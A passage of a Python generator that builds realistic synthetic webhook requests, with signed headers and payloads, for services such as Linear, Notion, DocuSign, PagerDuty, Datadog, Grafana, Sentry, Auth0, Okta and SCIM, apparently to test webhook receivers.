                "labelIds": [uid()], "teamId": uid(), "stateId": uid(), "priorityLabel": "High", "identifier": ident,
                "url": "https://linear.app/acme/issue/%s/%s" % (ident.lower(), "slug"), "branchName": g("branch", "%s/%s-fix-thing" % (pick(LOGINS), ident.lower())),
                "state": {"id": uid(), "color": "#f2c94c", "name": "In Progress", "type": "started"},
                "team": {"id": uid(), "key": ident.split("-")[0], "name": "Engineering"}, "labels": [{"id": uid(), "color": "#eb5757", "name": "Bug"}]}
    elif typ == "Comment":
        data = {"id": uid(), "createdAt": iso(t, ms=True), "updatedAt": iso(t, ms=True), "body": g("body", pick(COMMENTS)), "issueId": uid(),
                "userId": uid(), "reactionData": [], "issue": {"id": uid(), "title": g("title", pick(PR_TITLES)), "identifier": ident}}
    else:
        data = {"id": uid(), "name": g("title", pick(["Apple Pay", "Q1 reliability", "Onboarding v2"])), "description": g("description", ""),
                "state": "started", "targetDate": "2026-03-31", "url": "https://linear.app/acme/project/%s" % hexs(12)}
    p = {"action": g("action", pick(["create", "update"])), "actor": {"id": uid(), "name": nm, "email": email_for(nm), "type": "user",
                                                                       "avatarUrl": g("avatar", None)},
         "createdAt": iso(t, ms=True), "data": data, "url": data.get("url", "https://linear.app/acme"), "type": typ,
         "organizationId": uid(), "webhookTimestamp": t * 1000 + R.randint(0, 999), "webhookId": uid()}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Linear-Webhook"], ["Content-Type", "application/json; charset=utf-8"],
         ["Linear-Delivery", uid()], ["Linear-Event", typ], ["Linear-Signature", mac("lin", body).hexdigest()], ["Accept-Encoding", "gzip, deflate"]]
    return REQ("POST", g("uri", pick(["/webhooks/linear", "/api/linear"])), h, body)


def notion(f=None):
    f = f or {}
    g = f.get
    t = now()
    if g("verify") or chance(0.1):
        p = {"verification_token": "secret_" + alnum(43)}
    else:
        typ = g("type", pick(["page.created", "page.content_updated", "page.properties_updated", "comment.created", "database.schema_updated"]))
        p = {"id": uid(), "timestamp": iso(t, ms=True), "workspace_id": uid(), "workspace_name": g("workspace", pick(["Acme HQ", "Zoë's Studio", "Équipe Produit"])),
             "subscription_id": uid(), "integration_id": uid(), "type": typ,
             "authors": [{"id": uid(), "type": pick(["person", "bot"])}], "accessible_by": [{"id": uid(), "type": "person"}], "attempt_number": g("attempt", 1),
             "entity": {"id": uid(), "type": "comment" if typ.startswith("comment") else "page"},
             "data": g("data", {"parent": {"id": uid(), "type": pick(["space", "database", "page"])},
                                "updated_blocks": [{"id": uid(), "type": "block"}] if "content" in typ else []})}
        if typ == "page.properties_updated":
            p["data"]["updated_properties"] = ["title", alnum(4)]
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "notion-api"], ["Content-Type", "application/json"],
         ["X-Notion-Signature", "sha256=" + mac("nt", body).hexdigest()]]
    return REQ("POST", g("uri", pick(["/webhooks/notion", "/api/notion/events"])), h, body)


def figma(f=None):
    f = f or {}
    g = f.get
    t = now()
    et = g("event_type", pick(["FILE_COMMENT", "FILE_UPDATE", "FILE_VERSION_UPDATE", "LIBRARY_PUBLISH"]))
    p = {"event_type": et, "file_key": alnum(22), "file_name": g("file_name", pick(["Checkout v2 — flows", "Design System 2026", "Onboarding ✨", "Marketing site"])),
         "passcode": g("passcode", alnum(16)), "protocol_version": "2", "retries": 0, "timestamp": iso(t), "webhook_id": str(R.randint(10**5, 10**7))}
    if et == "FILE_COMMENT":
        p["comment"] = [{"text": g("comment", pick(COMMENTS + ["Can we make this button 4px bigger?", "Spacing feels off on mobile 📱"]))}]
        p["comment_id"] = str(R.randint(10**6, 10**8))
        p["mentions"] = []
        p["order_id"] = str(R.randint(1, 90))
        p["triggered_by"] = {"id": digits(18), "handle": g("handle", pick(NAMES))}
    elif et == "FILE_VERSION_UPDATE":
        p["label"] = g("label", pick(["v2 handoff", "Review round 3"]))
        p["description"] = g("description", pick(["Updated icons and spacing", "Ready for dev 🚀"]))
        p["version_id"] = str(R.randint(10**9, 9 * 10**9))
        p["triggered_by"] = {"id": digits(18), "handle": pick(NAMES)}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Figma-Webhooks/2.0"], ["Content-Type", "application/json"]]
    return REQ("POST", g("uri", pick(["/webhooks/figma", "/api/figma/events"])), h, body)


def calendly(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = g("name", pick(NAMES))
    ev = g("event", pick(["invitee.created", "invitee.canceled", "invitee_no_show.created"]))
    uid1 = uid()
    qa = g("qa", [{"question": "What would you like to discuss?", "answer": pick(FREE_TEXT), "position": 0},
                  {"question": "Company size", "answer": pick(["1-10", "11-50", "51-200", "201+"]), "position": 1}])
    p = {"created_at": iso(t, frac=6), "created_by": "https://api.calendly.com/users/" + uid(), "event": ev,
         "payload": {"cancel_url": g("cancel_url", "https://calendly.com/cancellations/" + uid1), "created_at": iso(t, frac=6),
                     "email": g("email", email_for(nm)), "event": "https://api.calendly.com/scheduled_events/" + uid(),
                     "first_name": None, "last_name": None, "name": nm, "new_invitee": None, "old_invitee": None,
                     "questions_and_answers": qa, "reschedule_url": "https://calendly.com/reschedulings/" + uid1, "rescheduled": False,
                     "status": "canceled" if "canceled" in ev else "active", "text_reminder_number": g("phone", None), "timezone": pick(["Europe/Berlin", "America/Toronto", "Asia/Tokyo"]),
                     "tracking": {"utm_campaign": g("utm_campaign", None), "utm_source": g("utm_source", pick([None, "website", "linkedin"])), "utm_medium": None,
                                  "utm_content": None, "utm_term": None, "salesforce_uuid": None},
                     "updated_at": iso(t, frac=6), "uri": "https://api.calendly.com/scheduled_events/%s/invitees/%s" % (uid(), uid1),
                     "cancellation": {"canceled_by": nm, "reason": g("reason", pick(["Conflict with another meeting", "Feeling unwell 🤒"])), "canceler_type": "invitee"} if "canceled" in ev else None,
                     "scheduled_event": {"name": pick(["30 Minute Meeting", "Demo", "Erstgespräch"]), "start_time": iso(t + 86400 * 3, frac=6), "end_time": iso(t + 86400 * 3 + 1800, frac=6),
                                         "location": {"type": "zoom", "join_url": "https://us06web.zoom.us/j/%s" % digits(11)}}}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Calendly-Webhooks"], ["Content-Type", "application/json; charset=utf-8"],
         ["Calendly-Webhook-Signature", "t=%d,v1=%s" % (t, mac("cal", "%d.%s" % (t, body)).hexdigest())]]
    return REQ("POST", g("uri", pick(["/webhooks/calendly", "/api/calendly"])), h, body)


def docusign(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = g("name", pick(NAMES))
    em = g("email", email_for(nm))
    env = uid()
    subj = g("subject", pick(["Please DocuSign: Master Services Agreement – Acme GmbH", "Bitte unterschreiben: Arbeitsvertrag", "NDA – Côté & Fils",
                              "Please DocuSign: Order Form Q1 2026"]))
    if g("json") or (not g("xml") and chance(0.35)):
        p = {"event": "envelope-completed", "apiVersion": "v2.1", "uri": "/restapi/v2.1/accounts/%s/envelopes/%s" % (uid(), env), "retryCount": 0,
             "configurationId": R.randint(10**6, 10**7), "generatedDateTime": iso(t, ms=True),
             "data": {"accountId": uid(), "userId": uid(), "envelopeId": env,
                      "envelopeSummary": {"status": "completed", "emailSubject": subj, "emailBlurb": g("blurb", "Please review and sign."),
                                          "sender": {"userName": pick(NAMES), "email": "legal@example.com"},
                                          "recipients": {"signers": [{"name": nm, "email": em, "status": "completed", "recipientId": "1"}]},
                                          "documentsUri": g("documentsUri", "/envelopes/%s/documents" % env)}}}
        body = J(p)
        ct = "application/json"
    else:
        prolog = g("prolog", '<?xml version="1.0" encoding="utf-8"?>')
        body = ('%s<DocuSignEnvelopeInformation xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                'xmlns="http://www.docusign.net/API/3.0"><EnvelopeStatus><RecipientStatuses><RecipientStatus><Type>Signer</Type><Email>%s</Email>'
                '<UserName>%s</UserName><RoutingOrder>1</RoutingOrder><Sent>%s</Sent><Delivered>%s</Delivered><Signed>%s</Signed>'
                '<DeclineReason xsi:nil="true" /><Status>Completed</Status><RecipientIPAddress>%s</RecipientIPAddress>'
                '<CustomFields /><AccountStatus>Active</AccountStatus><RecipientId>%s</RecipientId></RecipientStatus></RecipientStatuses>'
                '<TimeGenerated>%s</TimeGenerated><EnvelopeID>%s</EnvelopeID><Subject>%s</Subject><UserName>%s</UserName><Email>legal@example.com</Email>'
                '<Status>Completed</Status><Created>%s</Created><Sent>%s</Sent><Completed>%s</Completed><ACStatus>Original</ACStatus>'
                '<Origin>WebService</Origin><CustomFields>%s</CustomFields><DocumentStatuses><DocumentStatus><ID>1</ID><Name>%s</Name>'
                '<TemplateName /><Sequence>1</Sequence></DocumentStatus></DocumentStatuses></EnvelopeStatus>%s</DocuSignEnvelopeInformation>') % (
            prolog, xesc(em), g("xml_name", xesc(nm)), iso(t - 3000, z=False)[:-6], iso(t - 2000, z=False)[:-6], iso(t, z=False)[:-6], pick(CLIENT_IPS), uid(),
            iso(t, z=False)[:-6], env, g("xml_subject", xesc(subj)), xesc(pick(NAMES)), iso(t - 4000, z=False)[:-6], iso(t - 3000, z=False)[:-6], iso(t, z=False)[:-6],
            g("custom_fields", "<CustomField><Name>opportunity_id</Name><Show>False</Show><Required>False</Required><Value>006%s</Value></CustomField>" % alnum(12)),
            g("doc_name", "MSA_Acme_2026.pdf"), g("pdfs", "<DocumentPDFs><DocumentPDF><Name>MSA_Acme_2026.pdf</Name><PDFBytes>%s</PDFBytes><DocumentType>CONTENT</DocumentType></DocumentPDF></DocumentPDFs>" % PDF_B64 if chance(0.5) else ""))
        ct = "text/xml; charset=utf-8"
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "DocuSign Connect"], ["Content-Type", ct],
         ["X-DocuSign-Signature-1", b64(mac("ds", body).digest())], ["X-Authorization-Digest", "HMACSHA256"], ["X-DocuSign-AccountId", uid()]]
    return REQ("POST", g("uri", pick(["/webhooks/docusign", "/api/docusign/connect", "/connect/docusign.asmx"])), h, body)


# ========================================================= ops / alerting
SERVICES = ["payments-api", "checkout-service", "web-frontend", "billing-worker", "notification-worker", "postgres-main", "redis-cache", "ingress-nginx"]
ALERT_TITLES = ["High error rate on checkout-service", "p99 latency above 1s on payments-api", "Disk usage > 85% on postgres-main-0",
                "Pod crash looping: billing-worker", "Certificate expires in 7 days: api.example.com", "Kafka consumer lag > 10k",
                "Node not ready: ip-10-0-3-14.eu-central-1.compute.internal", "Synthetic check failed: Login flow (eu-west)",
                "SLO burn rate fast: availability 99.9%", "Memory usage 92% — redis-cache"]


def pagerduty(f=None):
    f = f or {}
    g = f.get
    t = now()
    et = g("event_type", pick(["incident.triggered", "incident.acknowledged", "incident.resolved", "incident.priority_updated"] + ([] if g("title") else ["incident.annotated"])))
    iid = "Q" + upnum(13)
    svc = pick(SERVICES)
    data = {"id": iid, "type": "incident", "self": "https://api.pagerduty.com/incidents/" + iid, "html_url": "https://acme.pagerduty.com/incidents/" + iid,
            "number": R.randint(100, 90000), "status": et.split(".")[1].replace("triggered", "triggered"), "incident_key": g("incident_key", hexs(32)),
            "created_at": iso(t), "title": g("title", pick(ALERT_TITLES)),
            "service": {"html_url": "https://acme.pagerduty.com/services/P" + upnum(6), "id": "P" + upnum(6), "self": "https://api.pagerduty.com/services/P" + upnum(6),
                        "summary": svc, "type": "service_reference"},
            "assignees": [{"html_url": "https://acme.pagerduty.com/users/P" + upnum(6), "id": "P" + upnum(6), "summary": g("assignee", pick(NAMES)), "type": "user_reference"}],
            "escalation_policy": {"id": "P" + upnum(6), "summary": "Platform on-call", "type": "escalation_policy_reference"},
            "teams": [], "priority": {"id": "P" + upnum(6), "summary": pick(["P1", "P2", "P3"]), "type": "priority_reference"},
            "urgency": pick(["high", "low"]), "conference_bridge": g("conference_bridge", None), "resolve_reason": None}
    if et == "incident.annotated":
        data = {"incident": {"id": iid, "type": "incident_reference", "html_url": data["html_url"]}, "id": "P" + upnum(13),
                "content": g("note", pick(["Rolled back to v2.3.9, error rate recovering.", "Root cause: expired TLS cert on internal LB.",
                                           "Customer impact: ~3% of EU checkouts failed between 14:02 and 14:19 UTC."])), "trimmed": False, "type": "incident_note"}
    p = {"event": {"id": "01" + upnum(24), "event_type": et, "resource_type": "incident", "occurred_at": iso(t, ms=True),
                   "agent": {"html_url": "https://acme.pagerduty.com/users/P" + upnum(6), "id": "P" + upnum(6), "self": "https://api.pagerduty.com/users/P" + upnum(6),
                             "summary": pick(NAMES), "type": "user_reference"}, "client": None, "data": data}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "PagerDuty-Webhook/V3.0"], ["Content-Type", "application/json"],
         ["X-PagerDuty-Signature", "v1=" + mac("pd", body).hexdigest()], ["X-Webhook-Id", uid()], ["X-Webhook-Subscription", "P" + upnum(6)]]
    return REQ("POST", g("uri", pick(["/webhooks/pagerduty", "/api/pagerduty/v3"])), h, body)


DD_QUERIES = ["avg(last_5m):avg:system.cpu.user{env:prod,service:payments-api} by {host} > 90",
              "sum(last_10m):sum:trace.http.request.errors{service:checkout-service,env:prod}.as_count() / sum:trace.http.request.hits{service:checkout-service,env:prod}.as_count() > 0.05",
              "max(last_15m):avg:kubernetes.memory.usage_pct{kube_deployment:billing-worker} by {pod_name} > 0.92",
              "logs(\"status:error service:web-frontend\").index(\"*\").rollup(\"count\").last(\"5m\") > 100",
              "avg(last_1h):anomalies(avg:postgresql.connections{db:main}, 'agile', 2) >= 1",
              "min(last_5m):avg:synthetics.http.response.time{check_id:abc-123-xyz} > 2000"]


def datadog(f=None):
    f = f or {}
    g = f.get
    t = now()
    title = g("title", "[%s] %s" % (pick(["Triggered", "Recovered", "Warn"]), pick(ALERT_TITLES)))
    p = {"id": digits(19), "title": title, "body": g("body", "%%%%%%\n@slack-oncall @pagerduty-platform\n\n%s\n\n[Runbook](https://wiki.example.com/runbooks/%s)\n\nMore than **90%%** for the last 5m.\n%%%%%%" % (
                 pick(ALERT_TITLES), pick(SERVICES))),
         "last_updated": str(t * 1000), "event_type": "query_alert_monitor", "date": str(t * 1000), "org": {"id": str(R.randint(10**5, 10**7)), "name": "Acme"},
         "alert_id": digits(8), "alert_metric": g("metric", pick(["system.cpu.user", "trace.http.request.errors", "kubernetes.memory.usage_pct"])),
         "alert_query": g("query", pick(DD_QUERIES)), "alert_scope": g("scope", "env:prod,host:ip-10-0-%d-%d" % (R.randint(0, 9), R.randint(1, 250))),
         "alert_status": g("status", "%s was > 90.0 on average during the last 5m." % pick(["system.cpu.user", "kubernetes.memory.usage_pct"])),
         "alert_transition": pick(["Triggered", "Recovered", "Warn", "Re-Triggered"]), "alert_priority": pick(["P1", "P2", "P3"]),
         "tags": g("tags", "env:prod,service:%s,team:platform" % pick(SERVICES)), "url": "https://app.datadoghq.eu/monitors/%s?group=host%%3Aip-10-0-3-14" % digits(8),
         "snapshot": g("snapshot", "https://p.datadoghq.eu/snapshot/view/dd-snapshots-eu1-prod/org_%s/%d/%s.png" % (digits(6), t, hexs(32))),
         "link": "https://app.datadoghq.eu/event/event?id=" + digits(19), "hostname": g("hostname", "ip-10-0-3-14.eu-central-1.compute.internal"),
         "aggreg_key": hexs(32)}
    body = J(p, "spaced")
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Datadog/Webhooks"], ["Content-Type", "application/json"],
         ["DD-Webhook-Signature", mac("dd", body).hexdigest()], ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/webhooks/datadog", "/api/alerts/datadog"])), h, body)


PROMQL = ['sum(rate(http_requests_total{job="checkout-service",status=~"5.."}[5m])) / sum(rate(http_requests_total{job="checkout-service"}[5m])) > 0.05',
          'histogram_quantile(0.99, sum by (le) (rate(http_request_duration_seconds_bucket{service="payments-api"}[5m]))) > 1',
          'kube_pod_container_status_restarts_total{namespace="prod"} - kube_pod_container_status_restarts_total{namespace="prod"} offset 15m > 3',
          '(node_filesystem_avail_bytes{mountpoint="/var/lib/postgresql"} / node_filesystem_size_bytes) * 100 < 15',
          'increase(kafka_consumergroup_lag{group="billing"}[10m]) > 10000',
          'probe_ssl_earliest_cert_expiry - time() < 86400 * 7']


def grafana(f=None):
    f = f or {}
    g = f.get
    t = now()
    an = g("alertname", pick(["HighErrorRate", "HighLatencyP99", "PodCrashLooping", "DiskAlmostFull", "CertExpiringSoon", "KafkaLag"]))
    svc = pick(SERVICES)
    expr = g("expr", pick(PROMQL))
    labels = {"alertname": an, "grafana_folder": "Platform", "namespace": "prod", "service": svc, "severity": pick(["critical", "warning"])}
    labels.update(g("labels", {}))
    alerts = [{"status": "firing", "labels": labels,
               "annotations": {"summary": g("summary", pick(ALERT_TITLES)), "description": g("description", "Query: %s\nCurrent value: %.2f" % (expr, R.random() * 100)),
                               "runbook_url": g("runbook_url", "https://wiki.example.com/runbooks/%s" % an)},
               "startsAt": iso(t, z=False).replace("+00:00", "Z"), "endsAt": "0001-01-01T00:00:00Z",
               "generatorURL": g("generatorURL", "https://grafana.example.com/alerting/grafana/%s/view?orgId=1" % alnum(14)),
               "fingerprint": hexs(16), "silenceURL": "https://grafana.example.com/alerting/silence/new?alertmanager=grafana&matcher=alertname%%3D%s&orgId=1" % an,
               "dashboardURL": "https://grafana.example.com/d/%s?orgId=1" % alnum(9), "panelURL": "https://grafana.example.com/d/%s?orgId=1&viewPanel=%d" % (alnum(9), R.randint(1, 20)),
               "values": {"A": round(R.random() * 100, 3), "C": 1}, "valueString": "[ var='A' labels={service=%s} value=%.3f ], [ var='C' labels={service=%s} value=1 ]" % (svc, R.random() * 100, svc),
               "imageURL": g("imageURL", None)}]
    if alerts[0]["imageURL"] is None:
        del alerts[0]["imageURL"]
    p = {"receiver": g("receiver", "k8s-webhook"), "status": "firing", "orgId": 1, "alerts": alerts, "groupLabels": {"alertname": an},
         "commonLabels": labels, "commonAnnotations": alerts[0]["annotations"], "externalURL": "https://grafana.example.com/", "version": "1",
         "groupKey": '{}/{alertname="%s"}:{alertname="%s"}' % (an, an), "truncatedAlerts": 0, "title": "[FIRING:1] %s (%s)" % (an, svc),
         "state": "alerting", "message": g("message", "**Firing**\n\nValue: A=%.2f\nLabels:\n - alertname = %s\n - service = %s\n" % (R.random() * 100, an, svc))}
    body = J(p, htmlesc=True)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Grafana"], ["Content-Type", "application/json"], ["Accept-Encoding", "gzip"]]
    if chance(0.4):
        h.append(["Authorization", "Bearer " + alnum(32)])
    return REQ("POST", g("uri", pick(["/webhooks/grafana", "/api/alerts/grafana", "/hooks/alerts"])), h, body)


def alertmanager(f=None):
    f = f or {}
    g = f.get
    t = now()
    an = g("alertname", pick(["KubePodCrashLooping", "KubeDeploymentReplicasMismatch", "TargetDown", "NodeFilesystemSpaceFillingUp", "Watchdog"]))
    labels = {"alertname": an, "namespace": g("namespace", "prod"), "pod": g("pod", "%s-%s-%s" % (pick(SERVICES), alnum(10).lower(), alnum(5).lower())),
              "prometheus": "monitoring/kube-prometheus-stack-prometheus", "severity": pick(["warning", "critical"])}
    p = {"receiver": "webhook-relay", "status": "firing",
         "alerts": [{"status": "firing", "labels": labels,
                     "annotations": {"description": g("description", "Pod %s/%s is in waiting state (reason: \"CrashLoopBackOff\")." % (labels["namespace"], labels["pod"])),
                                     "runbook_url": "https://runbooks.prometheus-operator.dev/runbooks/kubernetes/%s" % an.lower(),
                                     "summary": g("summary", "Pod is crash looping.")},
                     "startsAt": iso(t, frac=9), "endsAt": "0001-01-01T00:00:00Z",
                     "generatorURL": g("generatorURL", "http://prometheus.example.com/graph?g0.expr=%s&g0.tab=1" % q(pick(PROMQL), safe="")),
                     "fingerprint": hexs(16)}],
         "groupLabels": {"namespace": labels["namespace"]}, "commonLabels": labels, "commonAnnotations": {},
         "externalURL": "http://alertmanager.example.com", "version": "4", "groupKey": "{}:{namespace=\"%s\"}" % labels["namespace"], "truncatedAlerts": 0}
    body = J(p, htmlesc=True)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Alertmanager/0.27.0"], ["Content-Type", "application/json"]]
    return REQ("POST", g("uri", pick(["/webhooks/alertmanager", "/api/v1/alerts/receiver"])), h, body)


def sentry(f=None):
    f = f or {}
    g = f.get
    t = now()
    res = g("resource", pick(["event_alert", "issue", "issue", "error"]))
    frames = g("frames", [{"filename": "app/services/checkout.py", "abs_path": "/srv/app/services/checkout.py", "function": "finalize_order", "module": "app.services.checkout",
                           "lineno": R.randint(10, 400), "colno": None, "in_app": True, "context_line": "        total = cart.total()",
                           "pre_context": ["    def finalize_order(self, cart):", "        if cart is None:", "            raise CartMissing()"],
                           "post_context": ["        return self.gateway.charge(total)"]}])
    exc = {"values": [{"type": g("exc_type", pick(["KeyError", "TypeError", "ValueError", "TimeoutError"])), "value": g("exc_value", pick(["'currency'", "unsupported operand type(s) for +: 'NoneType' and 'int'", "Read timed out. (read timeout=10)"])),
                       "module": None, "stacktrace": {"frames": frames}, "mechanism": {"type": "generic", "handled": False}}]}
    ev = {"event_id": hexs(32), "project": R.randint(10**5, 10**7), "release": "payments-api@2.4.%d" % R.randint(0, 9), "dist": None, "platform": g("platform", "python"),
          "message": "", "datetime": iso(t, frac=6, z=False), "tags": [["environment", "production"], ["level", "error"], ["server_name", "payments-api-%s" % alnum(5).lower()],
                                                                      ["url", g("url", "https://api.example.com/v1/orders/%d/finalize" % R.randint(1000, 99999))]],
          "title": g("title", "%s: %s" % (exc["values"][0]["type"], exc["values"][0]["value"])), "culprit": g("culprit", "app.services.checkout in finalize_order"),
          "location": frames[0]["filename"], "level": "error", "exception": exc,
          "request": g("request", {"url": "https://api.example.com/v1/orders/finalize", "method": "POST", "query_string": [], "headers": [["User-Agent", pick(UAS_BROWSER)]],
                                   "env": {"SERVER_NAME": "payments-api", "SERVER_PORT": "8000"}}),
          "user": g("user", {"id": str(R.randint(1, 99999)), "ip_address": pick(CLIENT_IPS)}),
          "web_url": "https://acme.sentry.io/issues/%d/events/%s/" % (R.randint(10**6, 10**8), hexs(32)),
          "issue_url": "https://acme.sentry.io/api/0/issues/%d/" % R.randint(10**6, 10**8)}
    if res == "event_alert":
        p = {"action": "triggered", "installation": {"uuid": uid()}, "data": {"event": ev, "triggered_rule": g("rule", pick(["New issue in payments", "High volume of errors"]))},
             "actor": {"type": "application", "id": "sentry", "name": "Sentry"}}
    elif res == "issue":
        p = {"action": pick(["created", "resolved", "assigned"]), "installation": {"uuid": uid()},
             "data": {"issue": {"id": str(R.randint(10**6, 10**8)), "shareId": None, "shortId": "PAYMENTS-API-%s" % upnum(3), "title": ev["title"],
                                "culprit": ev["culprit"], "permalink": None, "logger": None, "level": "error", "status": "unresolved", "isPublic": False,
                                "platform": ev["platform"], "project": {"id": str(ev["project"]), "name": "payments-api", "slug": "payments-api", "platform": "python"},
                                "type": "error", "metadata": {"value": exc["values"][0]["value"], "type": exc["values"][0]["type"], "filename": frames[0]["filename"],
                                                             "function": frames[0]["function"]},
                                "numComments": 0, "count": str(R.randint(1, 5000)), "userCount": R.randint(1, 800), "firstSeen": iso(t, frac=6), "lastSeen": iso(t, frac=6)}},
             "actor": {"type": "user", "id": str(R.randint(1, 9999)), "name": pick(NAMES)}}
    else:
        p = {"action": "created", "installation": {"uuid": uid()}, "data": {"error": ev}, "actor": {"type": "application", "id": "sentry", "name": "Sentry"}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "sentry"], ["Content-Type", "application/json"], ["Request-ID", uid()],
         ["Sentry-Hook-Resource", res], ["Sentry-Hook-Timestamp", str(t)], ["Sentry-Hook-Signature", mac("sn", body).hexdigest()]]
    return REQ("POST", g("uri", pick(["/webhooks/sentry", "/api/sentry/hook", "/integrations/sentry/webhook"])), h, body)


# ================================================================ identity
def auth0(f=None):
    f = f or {}
    g = f.get
    logs = []
    for i in range(g("n", R.randint(1, 4))):
        t = now()
        nm = pick(NAMES)
        ty = pick(["s", "f", "fp", "seacft", "ss", "slo", "fu", "gd_send_sms", "sapi"])
        d = {"date": iso(t, ms=True), "type": ty, "description": g("description", {"f": "Wrong email or password.", "fp": "Wrong email or password.", "fu": "Invalid username or password"}.get(ty, "")),
             "connection": "Username-Password-Authentication", "connection_id": "con_" + alnum(16), "client_id": alnum(32), "client_name": g("client_name", pick(["Acme Web", "Acme iOS", "Admin Portal"])),
             "ip": pick(CLIENT_IPS), "user_agent": g("user_agent", pick(["Chrome 132.0.0 / Mac OS X 10.15.7", "Mobile Safari 17.4.0 / iOS 17.4.0", "Firefox 134.0.0 / Windows 10.0.0"])),
             "details": g("details", {"prompts": [], "initiatedAt": t * 1000, "completedAt": t * 1000 + 412, "elapsedTime": 412, "session_id": b64url(rbytes(24))}),
             "hostname": "acme.eu.auth0.com", "user_id": g("user_id", "auth0|" + hexs(24)), "user_name": g("user_name", email_for(nm)),
             "strategy": "auth0", "strategy_type": "database", "log_id": "900" + digits(53),
             "location_info": {"country_code": "DE", "city_name": g("city", pick(["Berlin", "München", "Hamburg"])), "time_zone": "Europe/Berlin", "continent_code": "EU"}}
        logs.append({"log_id": d["log_id"], "data": d})
    body = J(logs)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Auth0-Log-Streams/1.0"], ["Content-Type", "application/json"],
         ["Authorization", "Bearer " + alnum(40)]]
    return REQ("POST", g("uri", pick(["/webhooks/auth0/logs", "/api/auth0/stream"])), h, body)


def okta(f=None):
    f = f or {}
    g = f.get
    host = g("host", pick(HOSTS))
    uri = g("uri", pick(["/webhooks/okta", "/api/okta/event-hook", "/okta/events"]))
    if g("verify") or (g("verify") is None and chance(0.15)):
        h = [["Host", host], ["User-Agent", "Okta Event Hooks"], ["Accept", "application/json"],
             ["X-Okta-Verification-Challenge", g("challenge", b64url(rbytes(30)))], ["Authorization", g("auth", alnum(40))]]
        return REQ("GET", uri, h)
    t = now()
    nm = g("display_name", pick(NAMES))
    login = g("login", email_for(nm))
    et = g("event_type", pick(["user.lifecycle.create", "user.session.start", "user.account.update_profile", "group.user_membership.add", "user.lifecycle.deactivate", "user.authentication.sso"]))
    ev = {"uuid": uid(), "published": iso(t, ms=True), "eventType": et, "version": "0", "displayMessage": g("display_message", {"user.lifecycle.create": "Create Okta user",
                                                                                                                              "user.session.start": "User login to Okta"}.get(et, "Update user profile for Okta")),
          "severity": "INFO", "client": {"userAgent": {"rawUserAgent": g("raw_ua", pick(UAS_BROWSER)), "os": "Mac OS X", "browser": "CHROME"}, "zone": "null", "device": "Computer",
                                         "id": None, "ipAddress": g("ip", pick(CLIENT_IPS)),
                                         "geographicalContext": {"city": "Berlin", "state": "Land Berlin", "country": "Germany", "postalCode": "10115",
                                                                 "geolocation": {"lat": 52.5, "lon": 13.4}}},
          "device": None, "actor": {"id": "00u" + alnum(17), "type": "User", "alternateId": g("actor_alt", login), "displayName": g("actor_name", nm), "detailEntry": None},
          "outcome": {"result": "SUCCESS", "reason": None}, "target": g("target", [{"id": "00u" + alnum(17), "type": "User", "alternateId": login, "displayName": nm, "detailEntry": None}]),
          "transaction": {"type": "WEB", "id": alnum(27), "detail": {}}, "debugContext": {"debugData": g("debug", {"requestId": alnum(27), "requestUri": "/api/v1/users", "url": "/api/v1/users?activate=true"})},
          "legacyEventType": "core.user.config.user_creation.success", "authenticationContext": {"authenticationStep": 0, "externalSessionId": alnum(25)},
          "securityContext": {"asNumber": None, "asOrg": None, "isp": None, "domain": None, "isProxy": None}}
    p = {"eventType": "com.okta.event_hook", "eventTypeVersion": "1.0", "cloudEventsVersion": "0.1", "source": "https://acme.okta.com/api/v1/eventHooks/who" + alnum(17),
         "eventId": uid(), "data": {"events": [ev]}, "eventTime": iso(t, ms=True), "contentType": "application/json"}
    body = J(p)
    h = [["Host", host], ["User-Agent", "Okta Event Hooks"], ["Content-Type", "application/json"], ["Accept", "application/json"],
         ["Authorization", g("auth", alnum(40))]]
    return REQ("POST", uri, h, body)


def scim(f=None):
    f = f or {}
    g = f.get
    nm = g("display_name", pick(NAMES))
    given, _, family = nm.partition(" ")
    user = g("userName", email_for(nm))
    client = g("client", pick(["okta", "azure"]))
    op = g("op", pick(["create", "create", "patch", "filter"]))
    host = g("host", pick(HOSTS))
    auth = ["Authorization", "Bearer " + alnum(40)]
    if op == "filter":
        flt = g("filter", 'userName eq "%s"' % user)
        uri = "/scim/v2/Users?filter=" + q(flt, safe="") + "&startIndex=1&count=100"
        h = [["Host", host], ["User-Agent", "Okta SCIM Client 1.0.0" if client == "okta" else "Microsoft.AAD.Provisioning/1.0"],
             ["Accept", "application/scim+json"], auth]
        return REQ("GET", uri, h)
    if op == "create":
        p = {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"],
             "userName": user, "name": {"givenName": g("givenName", given), "familyName": g("familyName", family or given)},
             "displayName": nm, "emails": [{"primary": True, "value": g("email", user), "type": "work"}], "active": True,
             "externalId": g("externalId", "00u" + alnum(17)), "locale": "en-US", "title": g("title", pick(["Engineer", "Sales", "Designer"])),
             "groups": [], "password": None,
             "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": g("department", pick(["Engineering", "Finance", "Customer Success"])),
                                                                            "manager": {"value": g("manager", "")}}}
        p = {k: v for k, v in p.items() if v is not None}
        uri = "/scim/v2/Users"
        meth = "POST"
    else:
        p = {"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
             "Operations": [{"op": "replace", "path": g("path", "displayName"), "value": g("value", nm)}, {"op": "replace", "value": {"active": True}}]}
        uri = "/scim/v2/Users/" + uid()
        meth = "PATCH"
    body = J(p)
